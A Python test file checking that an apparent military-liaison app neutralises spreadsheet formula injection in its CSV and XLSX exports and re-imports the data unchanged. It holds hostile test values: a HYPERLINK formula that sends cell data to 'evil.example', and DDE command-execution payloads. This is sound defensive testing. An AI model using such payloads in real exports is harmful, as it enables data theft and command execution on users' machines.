"""Formula injection (issue 19, item 7): every spreadsheet export neutralises cells that begin
with = + - @ (tab, CR), XLSX cells are text, and our own importers read the export back
unchanged."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from liaison.core.cells import neutralise, unneutralise
from liaison.core.markings import Marking
from liaison.evac import registry
from liaison.orbat import export, importer, observe, partners, picture
from liaison.store import Store

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
T0 = datetime(1939, 8, 1, tzinfo=UTC)


@pytest.mark.parametrize(
    ("value", "out"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+48 22 123", "'+48 22 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-33.5", "-33.5"),
        ("+7", "+7"),
        ("27 Dywizja", "27 Dywizja"),
        ("", ""),
        (None, None),
        (12, 12),
    ],
)
def test_neutralise(value: object, out: object) -> None:
    assert neutralise(value) == out
    if isinstance(out, str):
        assert unneutralise(out) == (value if isinstance(value, str) else out)


@pytest.fixture
def hostile_store(store: Store) -> Store:
    with store.begin() as conn:
        partners.add_partner(conn, "PL", "Poland", is_self=True)
        partners.add_partner(conn, "JP", "Japan")
        for partner in ("PL", "JP"):
            observe.record(
                conn,
                partner,
                "U1",
                valid_at=T0,
                marking=Marking("GREEN"),
                designation=HOSTILE,
                place="@Kijów",
                notes="+1 tanks -2 guns",
                lat=50.0,
                lon=-3.5,
                strength=100,
            )
            observe.record(
                conn,
                partner,
                "U2",
                valid_at=T0,
                marking=Marking("GREEN"),
                designation="-cmd|' /C calc'!A0",
                lat=-33.5,
                lon=30.0,
            )
    return store


def _no_formula_xlsx(data: bytes) -> list[list[object]]:
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    rows = []
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "@", "\t", "\r")), cell.value
                assert not (cell.value.startswith("-") and cell.data_type == "s") or (
                    cell.value.startswith("'")
                ), cell.value
        rows.append([c.value for c in row])
    return rows


@pytest.mark.parametrize("partner", ["PL", "JP"])  # our picture and a partner's as received
def test_picture_exports_are_neutralised(hostile_store: Store, partner: str) -> None:
    with hostile_store.connect() as conn:
        pic = picture.get_picture(conn, partner)
    rows = _no_formula_xlsx(export.export(pic, "xlsx"))
    header = rows[0]
    u1 = dict(zip(header, rows[1], strict=True))
    assert u1["designation"] == "'" + HOSTILE and u1["place"] == "'@Kijów"
    assert u1["lon"] == -3.5  # numbers stay numbers
    recs = list(csv.DictReader(io.StringIO(export.export(pic, "csv").decode())))
    assert recs[0]["designation"] == "'" + HOSTILE
    assert recs[0]["notes"] == "'+1 tanks -2 guns" and recs[0]["lon"] == "-3.5"
    assert recs[1]["designation"] == "'-cmd|' /C calc'!A0" and recs[1]["lat"] == "-33.5"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_reimports_unchanged(hostile_store: Store, tmp_path: Path, fmt: str) -> None:
    with hostile_store.connect() as conn:
        pic = picture.get_picture(conn, "PL")
    f = tmp_path / f"pl.{fmt}"
    f.write_bytes(export.export(pic, fmt))
    with hostile_store.begin() as conn:
        partners.add_partner(conn, "US", "United States")
        importer.import_file(conn, f, "US")
        back = picture.get_picture(conn, "US")
    assert back.units["U1"].designation == HOSTILE
    assert back.units["U1"].place == "@Kijów"
    assert back.units["U2"].designation == "-cmd|' /C calc'!A0"


def test_web_export_of_partner_picture_is_neutralised(store: Store) -> None:
    from tests.web.conftest import Web, build_world

    build_world(store)
    with store.begin() as conn:
        observe.record(
            conn, "JP", "jp-x", valid_at=T0, marking=Marking("GREEN"), designation=HOSTILE
        )
    from liaison.web.app import create_app

    c = Web(store, create_app(store=store)).login("analyst.pl")
    r = c.get("/api/v1/pictures/JP/export", params={"format": "xlsx"})
    assert r.status_code == 200
    rows = _no_formula_xlsx(r.content)
    assert [v for row in rows for v in row if v and HOSTILE in str(v)] == ["'" + HOSTILE]
    r = c.get("/api/v1/pictures/JP/export", params={"format": "csv"})
    assert f'"\'{HOSTILE.replace(chr(34), chr(34) * 2)}"' in r.text


def test_evac_persons_export_is_neutralised_and_reads_back(tmp_path: Path) -> None:
    p = registry.Person(
        "P1",
        "=cmd|' /C calc'!A0",
        "@Łucja",
        date(1915, 2, 1),
        birth_place="+A1",
        family_id="-F1",
    )
    out = tmp_path / "persons.csv"
    registry.write_csv([p], out, actor="x", role="registrar")
    rec = next(csv.DictReader(io.StringIO(out.read_text("utf-8"))))
    assert rec["surname"] == "'=cmd|' /C calc'!A0" and rec["given_names"] == "'@Łucja"
    assert rec["birth_place"] == "'+A1" and rec["family_id"] == "'-F1"
    back = registry.read_csv(out)[0]
    assert (back.surname, back.given_names, back.birth_place, back.family_id) == (
        "=cmd|' /C calc'!A0",
        "@Łucja",
        "+A1",
        "-F1",
    )
